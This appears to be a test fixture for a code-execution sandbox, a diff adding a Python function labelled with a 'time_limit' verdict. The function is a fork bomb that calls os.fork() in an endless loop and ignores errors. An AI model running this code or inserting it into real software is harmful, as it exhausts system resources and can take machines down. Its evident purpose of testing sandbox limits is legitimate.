@@ -1,0 +1,11 @@
+# kind: function
+# verdict: time_limit
+# why: 5.25
+import os
+
+def f(a, b):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
